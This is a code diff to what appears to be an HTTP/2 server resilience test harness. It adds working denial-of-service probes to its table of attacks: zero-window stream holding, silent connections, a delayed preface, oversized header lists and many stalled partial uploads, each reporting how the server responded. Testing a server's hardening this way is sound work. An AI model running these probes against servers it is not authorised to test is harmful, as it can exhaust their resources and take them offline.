@@ -12,6 +12,7 @@ import h2.config
 import h2.connection
 import h2.events
 import h2.exceptions
+import h2.settings
 from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame
 
 def connect(host, port):
@@ -91,6 +92,162 @@ def silent(host, port):
     sock, conn = connect(host, port)
     return outcome(sock, conn, time.monotonic() + 10), 0
 
+def zero_window(host, port, streams=10, size=2 * 1024 * 1024):
+    """Announces a stream window of 0, opens STREAMS GETs for SIZE bytes each and grants nothing more.
+    Prints `holding N` once N responses have started (their bodies stuck behind the window), then
+    reads, granting nothing, until every stream is reset or 15 s pass: `reset=R` (streams reset by
+    the server) and `ended=E` (streams the server ended)."""
+    sock, conn = connect(host, port)
+    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
+    for i in range(streams):
+        conn.send_headers(1 + 2 * i, request_headers("/bytes/%d" % size), end_stream=True)
+    sock.sendall(conn.data_to_send())
+    sock.settimeout(0.2)
+    started, reset, ended = set(), set(), set()
+    deadline = time.monotonic() + 15
+    while time.monotonic() < deadline and len(reset) + len(ended) < streams:
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            break
+        if not data:
+            break
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.ResponseReceived):
+                started.add(event.stream_id)
+                if len(started) == streams:
+                    print("holding %d" % streams, flush=True)
+            elif isinstance(event, h2.events.StreamReset):
+                reset.add(event.stream_id)
+            elif isinstance(event, h2.events.StreamEnded):
+                ended.add(event.stream_id)
+        # SETTINGS and PING acknowledgements only: no WINDOW_UPDATE is ever sent.
+        send_quietly(sock, conn.data_to_send())
+    return "reset=%d ended=%d" % (len(reset), len(ended)), streams
+
+def closed_within(sock, seconds):
+    """Reads, answering nothing, until the server closes or SECONDS pass: `closed after S s` or
+    `open`."""
+    sock.settimeout(0.2)
+    started = time.monotonic()
+    while time.monotonic() < started + seconds:
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            data = b""
+        if not data:
+            return "closed after %d s" % round(time.monotonic() - started)
+    return "open"
+
+def silent_forever(host, port):
+    """The preface and SETTINGS, then not one byte (not the SETTINGS or PING acknowledgements):
+    `closed after S s`, S counted from the preface, or `open` after 30 s."""
+    sock, _ = connect(host, port)
+    return closed_within(sock, 30), 0
+
+def silent_after_a_request(host, port):
+    """One GET answered in full, then not one byte (not the PING acknowledgement of the GOAWAY):
+    `closed after S s`, S counted from the response, or `open` after 30 s."""
+    sock, conn = connect(host, port)
+    conn.send_headers(1, request_headers("/first"), end_stream=True)
+    sock.sendall(conn.data_to_send())
+    sock.settimeout(10)
+    ended = False
+    while not ended:
+        data = sock.recv(65536)
+        if not data:
+            return "closed before the response", 1
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.DataReceived):
+                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
+            ended = ended or isinstance(event, h2.events.StreamEnded)
+        sock.sendall(conn.data_to_send())
+    return closed_within(sock, 30), 1
+
+def late_preface(host, port):
+    """Connects, says nothing for 1.5 s, then sends the preface and one GET: `status S`."""
+    sock = socket.create_connection((host, int(port)), timeout=10)
+    time.sleep(1.5)
+    conn = h2.connection.H2Connection(
+        config=h2.config.H2Configuration(client_side=True, header_encoding=None))
+    conn.initiate_connection()
+    conn.send_headers(1, request_headers("/late"), end_stream=True)
+    sock.sendall(conn.data_to_send())
+    while True:
+        data = sock.recv(65536)
+        if not data:
+            return "closed", 1
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.ResponseReceived):
+                return "status %s" % dict(event.headers)[b":status"].decode(), 1
+        sock.sendall(conn.data_to_send())
+
+def many_fields(host, port):
+    """A GET with 1,500 header fields (60 KB of header list, under the 64 KiB limit), then one with
+    50: `statuses A B`."""
+    sock, conn = connect(host, port)
+    fields = {1: 1500, 3: 50}
+    for stream, count in fields.items():
+        headers = request_headers("/fields/%d" % count)
+        headers += [(b"x-f%d" % i, b"v") for i in range(count)]
+        conn.send_headers(stream, headers, end_stream=True)
+    sock.sendall(conn.data_to_send())
+    sock.settimeout(10)
+    statuses = {}
+    while len(statuses) < len(fields):
+        data = sock.recv(65536)
+        if not data:
+            break
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.ResponseReceived):
+                statuses[event.stream_id] = dict(event.headers)[b":status"].decode()
+            elif isinstance(event, h2.events.StreamReset):
+                statuses[event.stream_id] = "reset"
+        sock.sendall(conn.data_to_send())
+    return "statuses " + " ".join(statuses.get(s, "none") for s in fields), len(fields)
+
+def buffered_uploads(host, port, streams=100, length=1000000, seconds=8):
+    """STREAMS POSTs to /upload/buffered announcing LENGTH bytes each, sending all but the last byte
+    as fast as the server's windows allow, for SECONDS: `uploaded B` (the bytes the server took)."""
+    sock, conn = connect(host, port)
+    for i in range(streams):
+        headers = [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"localhost"),
+                   (b":path", b"/upload/buffered/%d" % i), (b"content-length", b"%d" % length)]
+        conn.send_headers(1 + 2 * i, headers)
+    sock.sendall(conn.data_to_send())
+    left = {1 + 2 * i: length - 1 for i in range(streams)}
+    chunk = b"x" * conn.max_outbound_frame_size
+    sock.settimeout(0.05)
+    deadline = time.monotonic() + seconds
+    uploaded = 0
+    while time.monotonic() < deadline:
+        for stream, remaining in left.items():
+            try:
+                window = conn.local_flow_control_window(stream)
+            except h2.exceptions.StreamClosedError:
+                continue
+            size = min(remaining, window, len(chunk))
+            if size > 0:
+                conn.send_data(stream, chunk[:size])
+                left[stream] -= size
+                uploaded += size
+        if not send_quietly(sock, conn.data_to_send()):
+            break
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            break
+        if not data:
+            break
+        conn.receive_data(data)
+    return "uploaded %d" % uploaded, streams
+
 def settings(host, port):
     """Not an attack: what the server grants, as `settings max_concurrent_streams=N
     max_header_list_size=M initial_window_size=W connection_window=C`, C being the connection's window
@@ -150,7 +307,10 @@ def backend(host, port):
                 return "served", 0
         sock.sendall(conn.data_to_send())
 
-ATTACKS = {"backend": backend, "settings": settings, "rapid_reset": rapid_reset, "continuation_flood": continuation_flood, "silent": silent}
+ATTACKS = {"backend": backend, "settings": settings, "rapid_reset": rapid_reset, "continuation_flood": continuation_flood, "silent": silent,
+           "zero_window": zero_window, "silent_forever": silent_forever,
+           "silent_after_a_request": silent_after_a_request, "late_preface": late_preface,
+           "many_fields": many_fields, "buffered_uploads": buffered_uploads}
 
 if __name__ == "__main__":
     host, port, attack = sys.argv[1:4]
